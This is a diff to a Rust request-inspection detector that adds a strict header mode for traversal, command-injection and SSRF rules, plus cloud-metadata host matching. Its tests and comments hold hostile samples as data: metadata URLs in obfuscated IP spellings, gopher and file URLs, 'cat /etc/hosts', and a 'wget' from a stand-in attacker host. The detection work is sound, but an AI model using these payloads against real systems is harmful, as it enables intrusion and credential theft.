@@ -9,6 +9,7 @@
 //! are a single pass over word starts for SQL keywords.
 
 use std::borrow::Cow;
+use std::net::Ipv6Addr;
 
 use super::Pattern;
 
@@ -100,6 +101,9 @@ pub(super) struct Families {
     /// forms (`$(`, backticks, `/bin/sh`…) run.
     pub cmdi_full: bool,
     pub ssrf: bool,
+    /// Header mode: the forms of traversal, command injection and SSRF that cannot
+    /// occur in a benign header value (see [`HEADER`]).
+    pub strict: bool,
 }
 
 /// Path, query and JSON fields.
@@ -110,17 +114,33 @@ pub(super) const ALL: Families = Families {
     cmdi: true,
     cmdi_full: true,
     ssrf: true,
+    strict: false,
 };
 
-/// Header values: no traversal or SSRF (URLs and paths are normal in `Referer`), and
-/// only the strong command-injection forms (`;` is everywhere in headers).
+/// Header values (`User-Agent`, `Referer`, forwarding and unknown headers): every
+/// family, in its *strict* form, because URLs, `;` and odd punctuation are normal there:
+///
+/// - traversal: a `..` only counts as a whole path segment (`../`, `..\`, `..;/`, a
+///   trailing `/..`), not `Loading.../` or `1..2/`; the sensitive-file names are the
+///   same as elsewhere (no benign header names `/etc/passwd`). Browsers resolve dot
+///   segments before sending a `Referer`, so a real one never contains `/../`.
+/// - command injection: `;` separates product tokens in every browser User-Agent
+///   (`(Linux; U; Android 4.0.3; id; GT-I9100)`, `(Linux; Android 9; CAT S61)`,
+///   `(Linux; Android 13; SH-M24)`), so a command word after a separator counts only
+///   when shell syntax follows it (a flag, a path, a URL, a variable, a quote, a
+///   redirection) or when a bare probe (`| id`) ends the value.
+/// - SSRF: only dangerous schemes with their slashes (`gopher://`, `file:/`,
+///   `dict://`, `php://`; `jar:` only around an inner URL) and cloud-metadata hosts.
+///   `http(s)://` URLs to ordinary hosts, which every `Referer` and `Origin` carries,
+///   never match; `127.0.0.1` / `localhost` do not either (a local chat UI sends them).
 pub(super) const HEADER: Families = Families {
     sqli: true,
-    traversal: false,
+    traversal: true,
     xss: true,
     cmdi: true,
-    cmdi_full: false,
-    ssrf: false,
+    cmdi_full: true,
+    ssrf: true,
+    strict: true,
 };
 
 /// Headers with a fixed grammar (`Accept`, `Content-Type`, `Sec-*`…): only Log4Shell
@@ -132,6 +152,7 @@ pub(super) const LOOKUPS_ONLY: Families = Families {
     cmdi: false,
     cmdi_full: false,
     ssrf: false,
+    strict: false,
 };
 
 /// Runs the selected families over lower-case text `s` whose [`classify`] mask is `m`,
@@ -153,7 +174,7 @@ pub(super) fn scan_text(
         }
     }
     if fam.traversal {
-        if let Some(d) = traversal(s, m).or_else(|| sensitive_file(s, m)) {
+        if let Some(d) = traversal(s, m, fam.strict).or_else(|| sensitive_file(s, m)) {
             hit(Pattern::PathTraversal, d);
         }
     }
@@ -163,12 +184,12 @@ pub(super) fn scan_text(
         }
     }
     if fam.cmdi {
-        if let Some(d) = command_injection(s, m, fam.cmdi_full) {
+        if let Some(d) = command_injection(s, m, fam.cmdi_full, fam.strict) {
             hit(Pattern::CommandInjection, d);
         }
     }
     if fam.ssrf {
-        if let Some(d) = ssrf(s, m) {
+        if let Some(d) = ssrf(s, m, fam.strict) {
             hit(Pattern::SsrfScheme, d);
         }
     }
@@ -232,8 +253,15 @@ fn word_before(s: &str, i: usize, skip_spaces: bool) -> &str {
 }
 
 /// Positions of an ASCII anchor byte.
+///
+/// A plain byte loop: `str::match_indices(char)` goes through the generic
+/// `CharSearcher` and cost a third of a clean browser request's inspection.
 fn anchors(s: &str, c: char) -> impl Iterator<Item = usize> + '_ {
-    s.match_indices(c).map(|(i, _)| i)
+    let c = u8::try_from(c).unwrap_or(0);
+    s.bytes()
+        .enumerate()
+        .filter(move |(_, b)| *b == c && c != 0)
+        .map(|(i, _)| i)
 }
 
 fn starts_with_word(s: &str, word: &str) -> bool {
@@ -294,9 +322,12 @@ fn log4shell(s: &str) -> Option<&'static str> {
 
 // === path traversal ===
 
-fn traversal(s: &str, m: u32) -> Option<&'static str> {
+fn traversal(s: &str, m: u32, strict: bool) -> Option<&'static str> {
     if m & C_DOT == 0 || !s.contains("..") {
         return None;
+    }
+    if strict {
+        return traversal_segment(s);
     }
     if s.contains("../") || s.contains("..\\") {
         return Some("dot_dot_slash");
@@ -310,10 +341,37 @@ fn traversal(s: &str, m: u32) -> Option<&'static str> {
     None
 }
 
+/// Header form of [`traversal`]: a `..` that is a whole path segment, i.e. not preceded
+/// by a word byte, `-` or another `.` (`Loading.../`, `v1..2/`, `a-../`) and followed by
+/// `/`, `\`, `;/`, or ending the text after a separator.
+fn traversal_segment(s: &str) -> Option<&'static str> {
+    let b = s.as_bytes();
+    for (i, _) in s.match_indices("..") {
+        let before = i.checked_sub(1).and_then(|j| b.get(j)).copied();
+        if before.is_some_and(|c| is_word_byte(c) || c == b'.' || c == b'-') {
+            continue;
+        }
+        let rest = s.get(i + 2..).unwrap_or("");
+        if rest.starts_with('/') || rest.starts_with('\\') {
+            return Some("dot_dot_slash");
+        }
+        if rest.starts_with(";/") || rest.starts_with(";\\") {
+            return Some("dot_dot_semicolon");
+        }
+        if rest.is_empty() && matches!(before, Some(b'/' | b'\\')) {
+            return Some("dot_dot_segment");
+        }
+    }
+    None
+}
+
 /// Well-known sensitive files, anchored on `/`, `\`, `.` and `_`.
 pub(super) fn sensitive_file(s: &str, m: u32) -> Option<&'static str> {
     if m & (C_SLASH | C_BSLASH) != 0 {
-        for sep in ['/', '\\'] {
+        for (sep, bit) in [('/', C_SLASH), ('\\', C_BSLASH)] {
+            if m & bit == 0 {
+                continue;
+            }
             for i in anchors(s, sep) {
                 let rest = s.get(i + 1..).unwrap_or("");
                 for (needle, detail) in [
@@ -336,23 +394,18 @@ pub(super) fn sensitive_file(s: &str, m: u32) -> Option<&'static str> {
             }
         }
     }
+    // Substring searches (vectorised in std) rather than a loop over every `.`: a
+    // browser User-Agent has a dozen dots and no `.ini`.
     if m & C_DOT != 0 {
-        for i in anchors(s, '.') {
-            let rest = from(s, i);
-            if rest.starts_with(".ini") && (ends_before(s, i, "win") || ends_before(s, i, "boot")) {
-                return Some("win_ini");
-            }
-            if rest.starts_with(".htpasswd") {
-                return Some("htpasswd");
-            }
+        if s.contains("win.ini") || s.contains("boot.ini") {
+            return Some("win_ini");
+        }
+        if s.contains(".htpasswd") {
+            return Some("htpasswd");
         }
     }
-    if m & C_UNDERSCORE != 0 {
-        for i in anchors(s, '_') {
-            if from(s, i).starts_with("_rsa") && ends_before(s, i, "id") {
-                return Some("ssh_key");
-            }
-        }
+    if m & C_UNDERSCORE != 0 && s.contains("id_rsa") {
+        return Some("ssh_key");
     }
     None
 }
@@ -475,6 +528,21 @@ fn sql_injection(s: &str, m: u32) -> Option<&'static str> {
             let r = rest.trim_start_matches([' ', ')']);
             if r.starts_with("--") || r.starts_with('#') || r.starts_with("/*") {
                 return Some("quote_comment");
+            }
+            // `1' order by 10--`: column-count probing right after a closing quote.
+            if starts_with_word(r, "order") {
+                let by = r.get(5..).unwrap_or("").trim_start();
+                if starts_with_word(by, "by")
+                    && by
+                        .get(2..)
+                        .unwrap_or("")
+                        .trim_start()
+                        .bytes()
+                        .next()
+                        .is_some_and(|b| b.is_ascii_digit())
+                {
+                    return Some("order_by_probe");
+                }
             }
             if let Some(after) = boolean_operator(r) {
                 if comparison_follows(after) {
@@ -670,8 +738,25 @@ fn xss(s: &str, m: u32) -> Option<&'static str> {
     }
     if m & C_COLON != 0 {
         for i in anchors(s, ':') {
-            if matches!(word_before(s, i, false), "javascript" | "vbscript") {
-                return Some("script_url");
+            match word_before(s, i, false) {
+                "javascript" | "vbscript" => return Some("script_url"),
+                // `data:text/html,<script>…` / `data:image/svg+xml;base64,…`: a
+                // document or script smuggled in a URL; no API field or header
+                // carries one.
+                "data"
+                    if [
+                        ":text/html",
+                        ":image/svg+xml",
+                        ":text/javascript",
+                        ":application/javascript",
+                        ":application/x-javascript",
+                    ]
+                    .iter()
+                    .any(|t| from(s, i).starts_with(t)) =>
+                {
+                    return Some("data_url")
+                }
+                _ => {}
             }
         }
     }
@@ -836,7 +921,32 @@ fn separator_command(s: &str) -> bool {
     }
 }
 
-fn command_injection(s: &str, m: u32, full: bool) -> Option<&'static str> {
+/// Header form of [`separator_command`] (see [`HEADER`]): the command must be followed
+/// by shell syntax — after a space, a flag (`-c`), a path (`/etc/passwd`, `./x`,
+/// `~/.ssh`), a URL (`http://…`), a variable, a quote or an operator; without a space,
+/// a redirection (`cat</etc/passwd`) — or be a bare probe that ends the value
+/// (`| id`). `; id; GT-I9100`, `; CAT S61`, `; SH-M24`, `curl/8.5.0` stay clean.
+fn separator_command_strict(s: &str) -> bool {
+    let Some((word, rest)) = command_word(s) else {
+        return false;
+    };
+    let arg = rest.trim_start_matches([' ', '\t']);
+    if arg.trim_end().is_empty() {
+        return is_probe(word);
+    }
+    if arg.len() == rest.len() {
+        // `cat</etc/passwd`; `{cat,/etc/passwd}` (brace expansion).
+        return rest.starts_with(['<', '>'])
+            || (rest.starts_with(',') && s.trim_start().starts_with('{'));
+    }
+    arg.starts_with([
+        '-', '/', '\\', '.', '~', '$', '`', '\'', '"', '<', '>', '|', '&', ';',
+    ]) || ["http://", "https://", "ftp://", "tftp://"]
+        .iter()
+        .any(|p| arg.starts_with(p))
+}
+
+fn command_injection(s: &str, m: u32, full: bool, strict: bool) -> Option<&'static str> {
     if m & C_DOLLAR != 0 {
         if s.contains("${ifs}") || s.contains("$ifs$") {
             return Some("ifs");
@@ -901,14 +1011,44 @@ fn command_injection(s: &str, m: u32, full: bool) -> Option<&'static str> {
         return None;
     }
     let b = s.as_bytes();
-    for (i, c) in s.match_indices([';', '|', '\n', '\r', '&']) {
+    // A byte loop: a multi-char pattern searcher decodes every character, and this
+    // runs on every header value.
+    let separators = b
+        .iter()
+        .enumerate()
+        .filter(|(_, c)| matches!(c, b';' | b'|' | b'\n' | b'\r' | b'&'));
+    for (i, &c) in separators {
+        // Cheap reject: a command (after spaces, `|` or `{`) starts with a letter or `/`.
+        let next = b
+            .get(i + 1..)
+            .unwrap_or(&[])
+            .iter()
+            .take(LOOKAHEAD)
+            .find(|n| !matches!(n, b' ' | b'\t' | b'|' | b'&' | b'{'));
+        if !next.is_some_and(|n| n.is_ascii_lowercase() || *n == b'/') {
+            continue;
+        }
         let rest = match c {
-            "&" if b.get(i + 1) == Some(&b'&') => s.get(i + 2..).unwrap_or(""),
-            "&" => continue,
+            b'&' if b.get(i + 1) == Some(&b'&') => s.get(i + 2..).unwrap_or(""),
+            // `& ping -n 5 …` (cmd.exe chaining). A lone `&` separates query
+            // parameters and appears in prose (`rock & roll`, `salt & echo`), so it
+            // takes a space and the strict argument rule everywhere.
+            b'&' if b.get(i + 1) == Some(&b' ') => {
+                if separator_command_strict(s.get(i + 1..).unwrap_or("")) {
+                    return Some("separator_command");
+                }
+                continue;
+            }
+            b'&' => continue,
             _ => s.get(i + 1..).unwrap_or(""),
         };
         let rest = rest.strip_prefix('|').unwrap_or(rest);
-        if separator_command(rest) {
+        let hit = if strict {
+            separator_command_strict(rest)
+        } else {
+            separator_command(rest)
+        };
+        if hit {
             return Some("separator_command");
         }
     }
@@ -917,7 +1057,23 @@ fn command_injection(s: &str, m: u32, full: bool) -> Option<&'static str> {
 
 // === SSRF / LFI ===
 
-fn ssrf(s: &str, m: u32) -> Option<&'static str> {
+/// SSRF/LFI: dangerous URL schemes and cloud-metadata endpoints.
+///
+/// A scheme counts with `:/` after it as well as `://`, because a path's slash runs are
+/// collapsed before matching (`/v1/files/gopher://h` becomes `…/gopher:/h`). In header
+/// mode (`strict`), `jar:` needs an inner URL (`jar:http…`, `jar:file:`) and `netdoc:`
+/// its slash, so product tokens such as `foo jar:1` stay clean.
+///
+/// Metadata endpoints: the literal `169.254.169.254` and `metadata.google.internal`
+/// anywhere, and, as the host of any URL (`scheme://[user@]host[:port]`), every
+/// spelling of `169.254.169.254` (decimal `2852039166`, hex `0xa9fea9fe`, octal
+/// `0251.0376.0251.0376`, short forms, `[::ffff:169.254.169.254]`), AWS ECS
+/// `169.254.170.2`, AWS IPv6 `fd00:ec2::254`, Alibaba `100.100.100.200` and the names
+/// `metadata`, `metadata.google.internal`, `instance-data`. These hosts are only
+/// reachable from inside a cloud VM, so no benign client names them in a URL; bare
+/// `100.100.100.200` (carrier-grade NAT space, a possible client address in
+/// `X-Forwarded-For`) is deliberately not matched outside a URL.
+fn ssrf(s: &str, m: u32, strict: bool) -> Option<&'static str> {
     if m & C_COLON != 0 {
         for i in anchors(s, ':') {
             if !s
@@ -928,31 +1084,122 @@ fn ssrf(s: &str, m: u32) -> Option<&'static str> {
                 continue;
             }
             let rest = from(s, i);
+            let slashes = rest.starts_with(":/") || rest.starts_with(":\\");
             let detail = match word_before(s, i, false) {
-                "file" if rest.starts_with(":/") => "file_scheme",
-                "gopher" if rest.starts_with("://") => "gopher_scheme",
-                "dict" if rest.starts_with("://") => "dict_scheme",
-                "php" | "phar" | "expect" | "zip" if rest.starts_with("://") => "php_wrapper",
-                "tftp" if rest.starts_with("://") => "tftp_scheme",
-                "ldap" if rest.starts_with("://") => "ldap_scheme",
-                "jar" => "jar_scheme",
-                "netdoc" => "netdoc_scheme",
+                "file" if slashes => "file_scheme",
+                "gopher" if slashes => "gopher_scheme",
+                "dict" if slashes => "dict_scheme",
+                "php" | "phar" | "expect" | "zip" if slashes => "php_wrapper",
+                "tftp" if slashes => "tftp_scheme",
+                "ldap" if slashes => "ldap_scheme",
+                "jar" if !strict || jar_inner_url(rest) => "jar_scheme",
+                "netdoc" if !strict || slashes => "netdoc_scheme",
+                _ if slashes && metadata_host(url_host(rest)) => "cloud_metadata",
                 _ => continue,
             };
             return Some(detail);
         }
     }
-    if m & C_DOT != 0 {
-        for i in anchors(s, '.') {
-            let rest = from(s, i);
-            if (rest.starts_with(".254.169.254") && ends_before(s, i, "169"))
-                || (rest.starts_with(".google.internal") && ends_before(s, i, "metadata"))
-            {
-                return Some("cloud_metadata");
-            }
-        }
+    if m & C_DOT != 0 && (s.contains("169.254.169.254") || s.contains("metadata.google.internal")) {
+        return Some("cloud_metadata");
     }
     None
+}
+
+/// After `jar`: `:` then an inner URL (`jar:http://…!/`, `jar:file:/…`).
+fn jar_inner_url(rest: &str) -> bool {
+    let r = rest.strip_prefix(':').unwrap_or(rest);
+    ["http", "file:", "ftp:", "jar:"]
+        .iter()
+        .any(|p| r.starts_with(p))
+}
+
+/// The host of a URL given the text from the `:` after its scheme: slashes skipped,
+/// user info (`user@`) dropped, cut at the first path, query or fragment byte. Keeps
+/// brackets and port (`[::1]:80`, `h:80`); [`metadata_host`] strips them.
+fn url_host(rest: &str) -> &str {
+    let a = rest.trim_start_matches(':').trim_start_matches(['/', '\\']);
+    let a = head(a, 300);
+    let end = a
+        .find(['/', '\\', '?', '#', ' ', '"', '\'', '<', '>', ','])
+        .unwrap_or(a.len());
+    let authority = a.get(..end).unwrap_or("");
+    authority.rsplit('@').next().unwrap_or(authority)
+}
+
+/// `169.254.169.254` (AWS, Azure, GCP, OCI, DigitalOcean…).
+const METADATA_V4: u32 = 0xA9FE_A9FE;
+/// `169.254.170.2` (AWS ECS task metadata).
+const ECS_V4: u32 = 0xA9FE_AA02;
+/// `100.100.100.200` (Alibaba Cloud).
+const ALIBABA_V4: u32 = 0x6464_64C8;
+
+/// Whether a URL host (lower-case, maybe with port or brackets) is a cloud metadata
+/// endpoint, in any spelling a URL parser or `inet_aton` accepts.
+pub(super) fn metadata_host(host: &str) -> bool {
+    if let Some(v6) = host.strip_prefix('[') {
+        let inner = v6.split(']').next().unwrap_or("");
+        let inner = inner.split('%').next().unwrap_or(inner);
+        return inner.parse::<Ipv6Addr>().is_ok_and(|a| {
+            a == Ipv6Addr::new(0xfd00, 0x0ec2, 0, 0, 0, 0, 0, 0x0254)
+                || a.to_ipv4().is_some_and(|v4| is_metadata_v4(u32::from(v4)))
+        });
+    }
+    let host = host.split(':').next().unwrap_or(host);
+    let host = host.strip_suffix('.').unwrap_or(host);
+    if matches!(
+        host,
+        "metadata" | "metadata.google.internal" | "instance-data"
+    ) || host.starts_with("instance-data.")
+    {
+        return true;
+    }
+    inet_aton(host).is_some_and(is_metadata_v4)
+}
+
+fn is_metadata_v4(a: u32) -> bool {
+    matches!(a, METADATA_V4 | ECS_V4 | ALIBABA_V4)
+}
+
+/// IPv4 in the forms `inet_aton` (and so curl and many URL parsers) accepts: 1–4
+/// dot-separated parts, each decimal, `0x` hex or `0`-prefixed octal; the last part
+/// fills the remaining bytes (`169.254.43518`, `2852039166`).
+pub(super) fn inet_aton(s: &str) -> Option<u32> {
+    if s.is_empty() || s.len() > 64 {
+        return None;
+    }
+    let mut parts = [0u64; 4];
+    let mut n = 0usize;
+    for p in s.split('.') {
+        let slot = parts.get_mut(n)?;
+        let v = if let Some(h) = p.strip_prefix("0x") {
+            if h.is_empty() {
+                0
+            } else {
+                u64::from_str_radix(h, 16).ok()?
+            }
+        } else if let Some(o) = p.strip_prefix('0').filter(|o| !o.is_empty()) {
+            u64::from_str_radix(o, 8).ok()?
+        } else {
+            if !p.bytes().all(|b| b.is_ascii_digit()) {
+                return None;
+            }
+            p.parse::<u64>().ok()?
+        };
+        *slot = v;
+        n += 1;
+    }
+    let [a, b, c, d] = parts;
+    let v = match n {
+        1 => a,
+        2 if a <= 0xFF && b <= 0xFF_FFFF => (a << 24) | b,
+        3 if a <= 0xFF && b <= 0xFF && c <= 0xFFFF => (a << 24) | (b << 16) | c,
+        4 if a <= 0xFF && b <= 0xFF && c <= 0xFF && d <= 0xFF => {
+            (a << 24) | (b << 16) | (c << 8) | d
+        }
+        _ => return None,
+    };
+    u32::try_from(v).ok()
 }
 
 #[cfg(test)]
@@ -997,17 +1244,74 @@ mod tests {
             "/*".repeat(8000),
             "(".repeat(16_000),
             "=".repeat(16_000),
+            "|".repeat(16_000),
+            "& ".repeat(8000),
+            "; ".repeat(8000) + "cat",
+            "..".repeat(8000),
+            "http://".repeat(2000),
+            "http://".to_owned() + &"1.".repeat(8000),
         ];
         for s in &inputs {
             let start = std::time::Instant::now();
             let _ = hits(s, ALL);
+            let _ = hits(s, HEADER);
             assert!(start.elapsed().as_millis() < 2_000, "{}", &s[..10]);
         }
     }
 
     #[test]
-    fn header_family_skips_paths_and_urls() {
-        assert!(hits("https://example.com/a/../b?x=file:///etc/passwd", HEADER).is_empty());
-        assert!(!hits("https://example.com/a/../b?x=file:///etc/passwd", ALL).is_empty());
+    fn header_family_spares_urls_but_not_attacks() {
+        for benign in [
+            "https://example.com/a/b?x=1&y=2#top",
+            "https://chat.example.com/c/123?x=1&y=2",
+            "http://127.0.0.1:8080/?next=/v1/models",
+            "mozilla/5.0 (linux; u; android 4.0.3; id; gt-i9100 build/iml74k)",
+            "mozilla/5.0 (linux; android 9; cat s61) applewebkit/537.36",
+            "mozilla/5.0 (linux; android 13; sh-m24) applewebkit/537.36",
+            "loading.../done",
+            "curl/8.5.0",
+            "foo jar:1.2",
+        ] {
+            assert!(
+                hits(benign, HEADER).is_empty(),
+                "{benign}: {:?}",
+                hits(benign, HEADER)
+            );
+        }
+        for attack in [
+            "https://example.com/a/../b",
+            "file:///etc/passwd",
+            "gopher://127.0.0.1:6379/_info",
+            "http://169.254.169.254/latest/meta-data/",
+            "http://2852039166/latest/",
+            "http://0xa9fea9fe/",
+            "http://0251.0376.0251.0376/",
+            "http://[::ffff:169.254.169.254]/",
+            "http://[fd00:ec2::254]/",
+            "http://user@100.100.100.200/latest/",
+            "x; cat /etc/hosts",
+            "x | id",
+            "x && wget http://e.vil/a",
+        ] {
+            assert!(!hits(attack, HEADER).is_empty(), "{attack}");
+        }
+    }
+
+    #[test]
+    fn inet_aton_forms() {
+        assert_eq!(inet_aton("169.254.169.254"), Some(METADATA_V4));
+        assert_eq!(inet_aton("2852039166"), Some(METADATA_V4));
+        assert_eq!(inet_aton("0xa9fea9fe"), Some(METADATA_V4));
+        assert_eq!(inet_aton("0251.0376.0251.0376"), Some(METADATA_V4));
+        assert_eq!(inet_aton("169.254.43518"), Some(METADATA_V4));
+        assert_eq!(inet_aton("169.16689662"), Some(METADATA_V4));
+        assert_eq!(inet_aton("1.2.3.4.5"), None);
+        assert_eq!(inet_aton("256.1.1.1"), None);
+        assert_eq!(inet_aton("example"), None);
+        assert_eq!(inet_aton(""), None);
+        assert_eq!(inet_aton("99999999999999999999999"), None);
+        assert!(metadata_host("metadata.google.internal."));
+        assert!(!metadata_host("example.com"));
+        assert!(!metadata_host("[::1]:8080"));
     }
 }
